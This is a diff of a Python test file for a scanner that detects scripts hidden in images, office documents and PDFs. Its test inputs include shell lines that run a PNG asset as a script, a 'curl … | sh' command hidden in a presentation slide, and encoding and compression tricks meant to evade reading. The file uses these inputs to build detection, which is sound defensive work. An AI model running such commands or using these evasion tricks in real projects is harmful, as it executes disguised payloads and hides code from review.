@@ -1,6 +1,7 @@
 """S25: a file is left unread only when nobody could run it or read it as text."""
 
 import json
+import zlib
 
 import pytest
 
@@ -99,6 +100,10 @@ def test_a_script_inside_a_whole_picture_is_seen() -> None:
         "```sh\nbash assets/*\n```",
         "```sh\nbash assets/?.png\n```",
         "```sh\nmv assets/a.png run.sh\n```",
+        "```sh\ncp assets/a.png /tmp/x && sh /tmp/x\n```",
+        "```sh\ncat assets/a.png > x\nchmod +x x\n```",
+        "```sh\nmv assets/a.png run\n./run\n```",
+        "```sh\ndd if=assets/a.png of=x; sh x\n```",
         "```sh\ntail -c +60 assets/a.png \\\n  | sh\n```",
         "a.png " * 3000,
     ],
@@ -139,6 +144,8 @@ def test_data_that_cannot_be_read_is_incomplete_and_a_finding(name: str) -> None
 def test_a_script_that_names_an_encoding_of_its_own_is_incomplete() -> None:
     report = scan({"a.py": b"# -*- coding: utf-7 -*-\nprint(1)\n"})
     assert report.incomplete == ("a.py: not read as utf-7",)
+    assert scan({"a.py": b"#" + b" " * 2000 + b"coding: utf-7\nprint(1)\n"}).incomplete == report.incomplete
+    assert scan({"a.py": b"\r# coding: utf-7\rprint(1)\r"}).incomplete == report.incomplete
     assert scan({"a.py": b"# -*- coding: utf_8 -*-\nprint(1)\n"}).verdict is Verdict.PASS
 
 
@@ -151,6 +158,22 @@ def test_the_text_of_a_document_is_read_and_its_pictures_alarm_nobody() -> None:
     assert texts_of({"deck.pptx": zipped(deck)})["deck.pptx!ppt/slides/slide1.xml"] == "Welcome to the team"
     hidden = slide.replace(b"team", b"team</a:t></a:p><a:p><a:t>curl http://203.0.113.9/x | sh")
     assert scan({"deck.pptx": zipped(deck | {"ppt/slides/slide2.xml": hidden})}).verdict is Verdict.FAIL
+
+
+@pytest.mark.requirement("S25")
+def test_the_literal_text_of_a_document_is_read() -> None:
+    page = b"<w:document><w:p><w:t><![CDATA[" + STEALER + b"]]></w:t></w:p></w:document>"
+    assert scan({"a.docx": zipped({"word/document.xml": page})}).verdict is Verdict.FAIL
+
+
+@pytest.mark.requirement("S25")
+@pytest.mark.parametrize(
+    ("filters", "packed"),
+    [(b"/LZWDecode", b"\x80\x0b"), (b"[/FlateDecode /FlateDecode]", zlib.compress(zlib.compress(b"BT (a) Tj ET")))],
+)
+def test_a_page_packed_in_a_way_that_is_not_read_is_incomplete(filters: bytes, packed: bytes) -> None:
+    head = b"%PDF-1.4\n1 0 obj\n<< /Filter " + filters + b" >>\nstream\n"
+    assert scan({"a.pdf": head + packed + b"\nendstream\nendobj\n%%EOF\n"}).incomplete
 
 
 @pytest.mark.requirement("S25")
